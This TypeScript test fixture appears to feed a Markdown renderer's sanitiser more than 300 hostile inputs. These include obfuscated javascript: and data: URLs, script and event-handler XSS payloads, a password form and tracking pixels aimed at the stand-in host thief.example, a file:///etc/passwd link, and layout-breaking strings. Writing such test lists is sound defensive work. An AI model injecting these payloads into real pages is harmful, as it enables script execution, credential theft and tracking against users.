/** Addresses that act, or read what is not theirs, in every spelling that a browser may understand. */
export const schemes = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  '\u0001javascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  'javascript\u00AD:alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A;avascript&colon;alert(1)',
  'javascript&#58;alert(1)',
  'java&Tab;script:alert(1)',
  '\\javascript:alert(1)',
  'vbscript:msgbox(1)',
  'data:text/html;base64,PHNjcmlwdD4=',
  'data:text/html,<script>alert(1)</script>',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'blob:https://example.com/1',
  'file:///etc/passwd',
  'ms-settings:privacy',
  'view-source:https://example.com',
];

/** HTML that acts, loads or changes the page. */
export const elements = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><a xlink:href="javascript:alert(1)">x</a></svg>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<style>*{display:none}</style>',
  '<form action=https://thief.example><input name=password></form>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<!-- --><b onclick=alert(1)>',
  '<br onload=alert(1)>',
];

/** Every place of Markdown that holds an address. */
export const contexts = [
  (address: string) => `[link](${address})`,
  (address: string) => `[link](<${address}>)`,
  (address: string) => `![image](${address})`,
  (address: string) => `<${address}>`,
  (address: string) => `[link][label]\n\n[label]: ${address}`,
  (address: string) => `[link][label]\n\n[label]: <${address}>`,
  (address: string) => `![image][label]\n\n[label]: ${address}`,
  (address: string) => `[link](${address} "${address}")`,
  (address: string) => `[![image](${address})](${address})`,
];

const thief = 'https://thief.example';
const marks = '\u0301'.repeat(200);

/** What breaks a layout, hides, or asks another server. */
const nuisances = [
  `![pixel](${thief}/pixel.png)`,
  `![pixel](//thief.example/pixel.png)`,
  `[![pixel](${thief}/pixel.png)](${thief})`,
  `<link rel=stylesheet href=${thief}/style.css>`,
  `<link rel=preload as=image href=${thief}/preload.png>`,
  `<meta http-equiv=refresh content="0;url=${thief}">`,
  `<base href=${thief}>`,
  `<video src=${thief}/film.mp4 autoplay></video>`,
  `<object data=${thief}/object></object><embed src=${thief}/embed>`,
  `<img srcset="${thief}/a.png 1x" src=x onerror=alert(1)>`,
  `<svg><image href=${thief}/a.png /><use href=${thief}/a.svg#a /></svg>`,
  `<div style="position:fixed;inset:0;background:url(${thief}/a.png)">over everything</div>`,
  `<style>@import url(${thief}/style.css); .orq-root { display: none }</style>`,
  `<details open ontoggle=alert(1)><summary>x</summary></details>`,
  `<template><script>alert(1)</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
  `<marquee onstart=alert(1)>x</marquee>`,
  `<input autofocus onfocus=alert(1)>`,
  `<body onpageshow=alert(1)>`,
  `</article></section><h1>Outside</h1>`,
  `"><img src=x onerror=alert(1)>`,
  `\u202Egnihtyreve snrut`,
  `a${marks} b${marks}`,
  'W'.repeat(5000),
  `\`${'W'.repeat(5000)}\``,
  `[${'W'.repeat(2000)}](${thief}/${'w'.repeat(2000)})`,
  `# ${'W'.repeat(2000)}`,
  `\`\`\`js\n${'W'.repeat(5000)}\n</script><script>alert(1)</script>\n\`\`\``,
  `|${' a |'.repeat(300)}\n|${' - |'.repeat(300)}\n|${` ${'W'.repeat(50)} |`.repeat(300)}`,
  '> '.repeat(500) + 'deep',
  '- '.repeat(500) + 'deep',
  `${'*'.repeat(1000)}x${'_'.repeat(1000)}`,
  '['.repeat(1000),
  '\u200B'.repeat(1000),
  '\n'.repeat(1000),
];

/** More than 300 of them, each a text of its own. */
export const hostileTexts: readonly string[] = [
  ...schemes.flatMap((address) => contexts.map((context) => context(address))),
  ...elements.flatMap((html) => [
    html,
    `a ${html} b`,
    `- ${html}`,
    `> ${html}`,
    `# ${html}`,
    `| ${html} |\n|---|\n| ${html} |`,
    `[${html}](${html})`,
    `\`\`\`html\n${html}\n\`\`\``,
    `text[^a]\n\n[^a]: ${html}`,
  ]),
  ...nuisances,
];
